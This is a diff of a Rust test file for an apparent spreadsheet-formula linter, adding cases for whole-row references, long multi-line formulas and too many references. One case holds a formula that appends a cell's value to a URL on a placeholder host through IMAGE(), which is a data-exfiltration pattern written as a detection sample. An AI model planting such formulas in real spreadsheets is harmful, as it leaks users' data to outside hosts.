@@ -98,6 +98,18 @@ const SHARED: &[(&str, &str, &str, &[&str])] = &[
         &["A2:A"],
     ),
     (
+        "whole-column-range",
+        "Do not use whole-row references.",
+        "=SUM($3:$3)",
+        &["$3:$3"],
+    ),
+    (
+        "url-built-from-cells",
+        "URLs built from cell values are forbidden.",
+        "=1+IMAGE(\"https://example.test/?\" & A1, 4)",
+        &["\"https://example.test/?\" & A1"],
+    ),
+    (
         "needless-sign",
         "Do not use unnecessary plus signs.",
         "=A1*+ B1",
@@ -127,7 +139,34 @@ const SHARED: &[(&str, &str, &str, &[&str])] = &[
         LONG,
         &[LONG],
     ),
+    (
+        "many-lines",
+        "Formulas must not have more than 3 lines.",
+        TALL,
+        &[TALL],
+    ),
+    (
+        "many-lines",
+        "Formulas must not contain line breaks.",
+        TALL,
+        &[TALL],
+    ),
+    (
+        "many-references",
+        "Formulas must not contain more than 6 references.",
+        LONG,
+        &[LONG],
+    ),
+    (
+        "many-references",
+        "Formulas must not contain more than 12 different references.",
+        LONG,
+        &[LONG],
+    ),
 ];
+
+/// A formula of more than 15 lines.
+const TALL: &str = "=A1\n+A2\n+A3\n+A4\n+A5\n+A6\n+A7\n+A8\n+C1\n+B1\n+B2\n+B3\n+B4\n+B5\n+B6\n+B7";
 
 /// A formula of more than 250 characters and 12 references.
 const LONG: &str = "=IF(A1=\"north\", B1*C1, 0)+IF(A2=\"north\", B2*C2, 0)+IF(A3=\"north\", B3*C3, 0)+IF(A4=\"north\", B4*C4, 0)+IF(A5=\"north\", B5*C5, 0)+IF(A6=\"north\", B6*C6, 0)+IF(D1=\"north\", E1*F1, 0)+IF(D2=\"north\", E2*F2, 0)+IF(D3=\"north\", E3*F3, 0)+IF(D4=\"north\", E4*F4, 0)+IF(D5=\"north\", E5*F5, 0)+IF(D6=\"north\", E6*F6, 0)";
@@ -136,6 +175,34 @@ const LONG: &str = "=IF(A1=\"north\", B1*C1, 0)+IF(A2=\"north\", B2*C2, 0)+IF(A3
 fn what_a_rule_and_a_policy_both_find_is_one_finding() {
     for (rule, sentence, formula, marks) in SHARED {
         assert_same(rule, sentence, formula, marks);
+    }
+}
+
+#[test]
+fn a_policy_alone_keeps_the_name_that_baselines_and_suppressions_know() {
+    for (sentence, name) in [
+        (
+            "Formulas must not have more than 3 lines.",
+            "multi-line-formula",
+        ),
+        (
+            "Formulas must not contain line breaks.",
+            "multi-line-formula",
+        ),
+        (
+            "Formulas must not contain more than 6 references.",
+            "too-many-references",
+        ),
+        ("Do not use whole-row references.", "whole-row-range"),
+        ("URLs built from cell values are forbidden.", "built-url"),
+    ] {
+        let shared = SHARED
+            .iter()
+            .find(|(_, of_policy, ..)| *of_policy == sentence);
+        let (.., formula, _) = shared.unwrap();
+        let found = found_by_both(&RuleSet::of(&[]), sentence, formula);
+        assert_eq!(found.len(), 1, "{found:?}");
+        assert_eq!(found[0].rule, name);
     }
 }
 
